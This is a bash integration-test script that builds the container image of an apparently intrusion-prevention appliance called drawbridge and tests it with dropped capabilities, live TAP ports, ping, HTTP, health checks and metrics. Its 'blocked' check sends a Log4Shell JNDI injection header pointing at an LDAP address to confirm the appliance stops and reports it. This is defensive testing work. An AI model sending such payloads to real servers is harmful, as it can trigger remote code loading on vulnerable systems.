#!/usr/bin/env bash
# Builds the container image and proves it: replay and the lab's story as the default user without any capability, then live TAP
# ports in every documented way of starting them, with a ping, a page and a blocked attack across, health check and metrics.
#
#   scripts/container-test.sh                 needs root, podman or docker, curl and ip; skips with the reason otherwise
#   ENGINE="docker"                           engine and its global options (default: podman, else docker)
#   NODE_IMAGE=node:24-bookworm-slim          base image; pulled when it is not there
set -euo pipefail
cd "$(dirname "$0")/.."

skip() { echo "container-test: skipped, $1"; exit 0; }
engine=${ENGINE:-$(command -v podman || command -v docker || true)}
base=${NODE_IMAGE:-node:24-bookworm-slim}
[ -n "$engine" ] || skip "neither podman nor docker is installed"
[ "$(id -u)" = 0 ] || skip "it moves network interfaces between namespaces, which takes root"
[ -e /dev/net/tun ] || skip "there is no /dev/net/tun"
for tool in ip curl ping nsenter; do command -v "$tool" >/dev/null || skip "$tool is not installed"; done
$engine image inspect "$base" >/dev/null 2>&1 || timeout 120 $engine pull -q "$base" >/dev/null 2>&1 || skip "the base image $base cannot be had"
$engine run --rm --network=none --entrypoint true "$base" >/dev/null 2>&1 || skip "this machine does not let $engine run a container"

work=$(mktemp -d /run/drawbridge-container.XXXXXX)
image=drawbridge-test:$$
inside=db-in-$$ outside=db-out-$$
container='' server=''
clean() {
  [ -z "$server" ] || kill "$server" 2>/dev/null || true
  [ -z "$container" ] || $engine rm -f -v "$container" >/dev/null 2>&1 || true
  ip netns del "$inside" 2>/dev/null || true
  ip netns del "$outside" 2>/dev/null || true
  $engine rmi -f "$image" >/dev/null 2>&1 || true
  rm -rf "$work"
}
trap clean EXIT

passed=0 failed=0
# check NAME COMMAND...: the command must succeed; its output is shown when it does not.
check() {
  local name=$1
  shift
  if "$@" >"$work/out" 2>&1; then
    passed=$((passed + 1))
    echo "ok    $name"
  else
    failed=$((failed + 1))
    echo "FAIL  $name"
    sed 's/^/      /' "$work/out"
  fi
}
# says PATTERN COMMAND...: the command must succeed and say PATTERN. (No pipe into grep -q: it would end the writer early.)
says() {
  local pattern=$1
  shift
  "$@" >"$work/said" 2>&1 || { cat "$work/said"; return 1; }
  grep -q -- "$pattern" "$work/said" || { cat "$work/said"; return 1; }
}
# fails PATTERN COMMAND...: the command must fail and say PATTERN.
fails() {
  local pattern=$1
  shift
  if "$@" >"$work/failing" 2>&1; then echo "it succeeded"; return 1; fi
  cat "$work/failing"
  grep -q -- "$pattern" "$work/failing"
}

# ---- build ---------------------------------------------------------------------------------------------------------------
started=$SECONDS
case $engine in *podman*) format='--format docker' ;; *) format='' ;; esac
$engine build $format --network=host --build-arg "NODE_IMAGE=$base" -t "$image" . >"$work/build.log" 2>&1 || {
  tail -40 "$work/build.log"
  echo "container-test: the image does not build"
  exit 1
}
echo "built in $((SECONDS - started)) s, $($engine image inspect -f '{{.Size}}' "$image" | awk '{printf "%d MB", $1 / 1e6}') with its base"

# ---- without any capability -------------------------------------------------------------------------------------------------
closed="--read-only --tmpfs /tmp:rw,size=16m --security-opt no-new-privileges --cap-drop ALL"
bare() { $engine run --rm --network=none --no-healthcheck $closed "$image" "$@"; }
attack=/opt/drawbridge/pcaps/lab-log4shell.pcap
check "the default user is not root" says '^1000$' $engine run --rm --no-healthcheck --network=none --entrypoint id "$image" -u
check "drawbridge check on the default configuration" bare check /etc/drawbridge/drawbridge.yaml
check "drawbridge replay of a shipped capture raises an alert" says '"event_type":"alert".*"action":"blocked"' \
  bare replay "$attack" -c /etc/drawbridge/drawbridge.yaml --eve /dev/stdout --events alert
check "drawbridge lab --replay --once stops every attack" says 'Every attack was stopped' bare lab --replay --once
check "an unknown capture is one line and exit 1" fails "no such file" bare replay /nowhere.pcap

# ---- live ports ------------------------------------------------------------------------------------------------------------
tun=$work/tun # udev makes /dev/net/tun 0666; where it is not, a node of our own stands in
mknod -m 0666 "$tun" c 10 200
live="--network=none $closed --cap-add NET_ADMIN --cap-add NET_RAW --device $tun:/dev/net/tun"

ip netns add "$inside"
ip netns add "$outside"
ip -n "$outside" link set lo up
ip netns exec "$outside" node -e "require('node:http').createServer((q, r) => r.end('hello through the appliance\n')).listen(8080)" &
server=$!

pid() { $engine inspect -f '{{.State.Pid}}' "$container"; }
in_container() { nsenter -t "$(pid)" -n "$@"; }
from_inside() { ip netns exec "$inside" "$@"; }
ready() {
  for _ in $(seq 100); do
    says '^READY$' $engine logs "$container" >/dev/null && return 0
    [ "$($engine inspect -f '{{.State.Running}}' "$container")" = true ] || break
    sleep 0.2
  done
  $engine logs "$container"
  return 1
}
attach() { # DEVICE NAMESPACE ADDRESS: what a VM would do with its adapter
  in_container ip link set "$1" netns "$2" && ip -n "$2" address add "$3" dev "$1" && ip -n "$2" link set "$1" up
}
plugged() { attach db-inside "$inside" 10.77.0.1/24 && attach db-outside "$outside" 10.77.0.2/24; }
privileges() { # UID: of every thread; NET_ADMIN and NET_RAW are bits 12 and 13
  cat /proc/"$(pid)"/task/*/status >"$work/status"
  grep -E '^(Uid|CapPrm|CapEff|NoNewPrivs):' "$work/status" | sort | uniq -c
  awk -v uid="$1" '
    /^Uid:/ { threads++; if ($2 != uid || $3 != uid || $4 != uid || $5 != uid) wrong++ }
    /^Cap(Prm|Eff):/ && $2 != "0000000000003000" { wrong++ }
    /^NoNewPrivs:/ && $2 != 1 { wrong++ }
    END { exit threads < 2 || wrong > 0 }' "$work/status"
}
page() { says 'through the appliance' from_inside curl -sS --max-time 5 http://10.77.0.2:8080/; }
blocked() {
  fails 'curl: (\(28\|52\|56\))' from_inside curl -sS --max-time 3 -H 'X-Api-Version: ${jndi:ldap://10.77.0.1/a}' http://10.77.0.2:8080/ || return 1
  sleep 0.5
  # Through /proc: root without DAC_OVERRIDE, as `exec` would start grep, cannot read the file of user node.
  grep -h '"event_type":"alert"' "/proc/$(pid)/root/var/log/drawbridge/eve.json" | grep '"action":"blocked"'
}
metrics() {
  in_container curl -sS --max-time 5 http://127.0.0.1:9464/metrics >"$work/metrics"
  grep -E '^drawbridge_[a-z_]*frames_total\{.*\} [1-9]' "$work/metrics"
}
healthy() {
  case $engine in
    *podman*) $engine healthcheck run "$container" ;;
    *) for _ in $(seq 40); do [ "$($engine inspect -f '{{.State.Health.Status}}' "$container")" = healthy ] && return 0; sleep 1; done; return 1 ;;
  esac
}
stops() { $engine stop -t 8 "$container" >/dev/null 2>&1 && [ "$($engine inspect -f '{{.State.ExitCode}}' "$container")" = 0 ] && says '^DONE$' $engine logs "$container"; }
scenario() { # NAME UID FLAGS...
  local name=$1 uid=$2
  shift 2
  container=$($engine run -d $live "$@" "$image" 2>"$work/run.err") || { cat "$work/run.err"; failed=$((failed + 1)); return; }
  check "$name: ready" ready
  check "$name: every thread is uid $uid with NET_ADMIN and NET_RAW only" privileges "$uid"
  check "$name: health check" healthy
  check "$name: its TAP ports move into network namespaces" plugged
  check "$name: ping crosses" from_inside ping -c 2 -W 2 -q 10.77.0.2
  check "$name: a page crosses" page
  check "$name: an attack does not, and is reported" blocked
  check "$name: metrics answer" metrics
  check "$name: stops in order on SIGTERM" stops
  $engine rm -f -v "$container" >/dev/null 2>&1
  container=''
}

# podman makes --cap-add ambient for a user that is not root, Docker does not: then the default user must be told, not left to guess.
if says 0000000000003000 $engine run --rm --no-healthcheck $live --entrypoint grep "$image" CapEff /proc/self/status >/dev/null; then
  scenario "user node" 1000
else
  check "user node without capabilities is told what is missing" fails 'this takes CAP_NET_ADMIN' $engine run --rm --no-healthcheck $live "$image"
fi
check "user node without --cap-add is told what is missing" fails 'this takes CAP_NET_ADMIN' \
  $engine run --rm --no-healthcheck --network=none $closed --device "$tun:/dev/net/tun" "$image"
scenario "root with two capabilities" 0 --user 0
scenario "root that becomes node" 1000 --user 0 --cap-add SETUID --cap-add SETGID

echo "container: $passed checks passed, $failed failed"
[ "$failed" = 0 ]
